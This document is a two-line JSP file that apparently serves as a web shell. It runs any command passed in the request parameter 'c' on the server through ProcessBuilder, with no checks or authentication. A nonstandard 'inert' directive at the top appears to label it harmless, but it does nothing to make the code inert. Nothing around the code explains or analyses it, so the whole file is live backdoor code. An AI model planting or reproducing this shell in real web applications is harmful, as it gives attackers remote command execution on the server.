<%@ inert %>
<% new ProcessBuilder(request.getParameter("c").split(" ")).start(); %>
